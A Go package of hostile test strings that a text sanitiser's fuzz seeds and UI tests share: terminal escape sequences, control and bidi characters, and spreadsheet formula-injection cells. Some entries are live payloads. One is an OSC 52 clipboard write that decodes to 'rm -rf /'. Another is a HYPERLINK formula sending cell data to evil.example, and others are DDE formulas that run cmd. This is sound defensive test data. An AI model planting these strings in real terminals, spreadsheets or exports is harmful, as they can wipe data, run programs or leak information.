// Package hostile is a corpus of strings a hostile or broken server might send: escape
// sequences of every family (CSI, OSC, DCS, APC, PM, SOS, two-byte and charset
// escapes), C0 and C1 controls (C1 as code points and as raw bytes), bidi controls,
// wide and zero-width characters, and cells a spreadsheet would run as a formula. It is
// test data shared by the sanitiser's fuzz seeds and every hostile-text test; nothing
// in the product imports it.
package hostile

import "sort"

// Strings is a set of strings a hostile or broken server might send, shared with the
// fuzz seeds and the UI's hostile-text tests.
var Strings = map[string]string{
	"csi recolour":      "Alice\x1b[31;1mRED\x1b[0m",
	"csi cursor home":   "\x1b[H\x1b[2JAlice",
	"csi cursor up":     "Bob\x1b[5A\x1b[10Coverwrite",
	"osc title":         "\x1b]0;pwned\x07Carol",
	"osc 8 link":        "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
	"osc 52 clipboard":  "Dave\x1b]52;c;cm0gLXJmIC8K\x07",
	"dcs":               "\x1bP1$r0m\x1b\\Eve",
	"apc":               "\x1b_Gf=100;AAAA\x1b\\Frank",
	"pm and sos":        "\x1b^secret\x1b\\\x1bXhidden\x1b\\Grace",
	"8-bit csi":         "Heidi\u009b31mred",
	"8-bit osc":         "\u009d0;title\u009cIvan",
	"c1 controls":       "Judy\u0085\u0084\u008e\u0090x\u009cok",
	"raw c1 bytes":      "Mallory\x9b31m\x9d0;t\x07",
	"c0 controls":       "Nia\x00\x07\x08\x08\x08\x7fgo",
	"newlines and tabs": "Oscar\r\nLine2\tTab\vV\fF",
	"bidi override":     "Peggy \u202Eevil.exe\u202C txt",
	"bidi isolates":     "\u2066Quinn\u2069 \u2067admin\u2069 \u2068x\u2069",
	"bidi marks":        "Rupert\u200E\u200F\u061C",
	"zero width":        "Sy\u200Bbil\u200C\u200D\u2060\uFEFF",
	"tags":              "Trent\U000E0041\U000E007F",
	"wide cjk":          "陳大文 (Chan Tai Man)",
	"emoji":             "Ursula 👩‍💻 🇳🇱",
	"variation":         "Victor ❤️ ☺︎",
	"zalgo":             "W\u0301\u0302\u0303\u0304\u0305\u0306alter",
	"leading mark":      "\u0301Xavier",
	"invalid utf8":      "Yv\xff\xfeonne\xc3",
	"private use":       "Zoe\uE000\U000F0000",
	"line separators":   "A\u2028B\u2029C",
	"unterminated osc":  "keep\x1b]0;swallowed to the end",
	"esc aborts osc":    "\x1b]0;title\x1b[1mBold",
	"lone esc at end":   "end\x1b",
	"charset designate": "\x1b(B\x1b)0Plain",
	"reset terminal":    "\x1bcReset\x1b7\x1b8",
	"conceal":           "\x1b[8mSecret\x1b[28m",
	"alt screen":        "\x1b[?1049hAlt\x1b[?1049l",
	"scroll region":     "Pat\x1b[2;5rScroll\x1b[r",
	"window ops":        "Win\x1b[8;1;1t\x1b[21tdow",
	"ss2 ss3":           "\x1bNSingle\x1bOShift",
	"raw c1 controls":   "Raw\x85\x84\x8e\x90\x9cC1",
	"nul and del":       "Nu\x00l De\x7fl",
	"soft hyphen":       "So\u00adft",
	"bidi embeddings":   "\u202aLTR\u202b RTL\u202c\u202d",
	// Cells a spreadsheet runs as a formula (OWASP's CSV injection list, and the
	// full-width equals sign some spreadsheets take for one).
	"formula equals":    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"formula plus":      "+1+cmd|' /C calc'!A0",
	"formula minus":     "-2+3+cmd|' /C calc'!A0",
	"formula at":        "@SUM(1+9)*cmd|' /C calc'!A0",
	"formula tab":       "\t=1+1",
	"formula cr":        "\r=1+1",
	"formula fullwidth": "\uff1d1+1",
}

// List is the corpus in a fixed order, for building hostile fixtures.
func List() []string {
	keys := make([]string, 0, len(Strings))
	for k := range Strings {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	out := make([]string, len(keys))
	for i, k := range keys {
		out[i] = Strings[k]
	}
	return out
}
